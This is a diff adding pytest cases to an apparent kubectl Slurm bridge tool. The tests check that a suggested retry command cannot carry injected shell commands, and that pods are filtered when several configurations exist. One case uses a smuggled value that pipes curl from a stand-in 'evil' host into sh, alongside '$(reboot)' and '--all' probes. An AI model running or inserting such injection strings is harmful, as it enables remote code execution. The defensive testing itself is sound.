@@ -194,6 +194,24 @@ def test_words_of_users_do_not_reach_the_terminal_as_commands(kube: world.Pocket
         assert not any(line.startswith("root/b") for line in shown.splitlines())
 
 
+@pytest.mark.parametrize(
+    ("kind", "name", "named"),
+    [
+        ("Job", "train", "Job/train"),
+        ("Job", "t;curl evil|sh #", "Pod/a"),
+        ("$(reboot)", "train", "Pod/a"),
+        ("--all", "train", "Pod/a"),
+    ],
+)
+def test_the_next_step_is_a_command_that_runs_nothing_else(
+    kube: world.PocketKube, run: Run, kind: str, name: str, named: str
+) -> None:
+    """A user copies it into a shell; owner references may say anything."""
+    owner = {"apiVersion": "batch/v1", "kind": kind, "name": name, "uid": "u", "controller": True}
+    pod(kube, "a", "Parked", "its job was cancelled", metadata={"ownerReferences": [owner]})
+    assert run("why", "a")[1].endswith(f"run: kubectl slurm retry --namespace team {named}\n")
+
+
 def test_a_pod_is_explained_by_the_configuration_of_the_running_daemon(kube: world.PocketKube, run: Run) -> None:
     """Found by its label; the policy in it counts, and the user reads nothing but pods and that."""
     configure(kube)
@@ -233,6 +251,20 @@ def test_of_several_configurations_that_of_the_usual_namespace_is_used(kube: wor
     configure(kube, "other")
     status, _, told = run("explain", "a")
     assert (status, "forger/slurm-bridge" in told, "name one with --daemon" in told) == (1, True, True)
+
+
+def test_of_several_configurations_without_a_usual_one_pods_of_the_default_scheduler_are_shown_with_a_note(
+    kube: world.PocketKube, run: Run
+) -> None:
+    """A user who can label a ConfigMap does not hide the pods of others without a word."""
+    configure(kube, "forger")
+    configure(kube, "other")
+    pod(kube, "a", "Parked", "its job was cancelled")
+    pod(kube, "b", "Parked", "its job was cancelled", schedulerName="night")
+    status, shown, told = run("jobs")
+    assert (status, "Pod/a" in shown, "Pod/b" in shown) == (0, True, False)
+    assert told.startswith("note: several daemons have a configuration: forger/slurm-bridge, other/slurm-bridge; name")
+    assert told.endswith("shown are pods with the scheduler name slurm-bridge-scheduler\n")
 
 
 def test_a_forged_configuration_reads_no_file_and_calls_no_server(
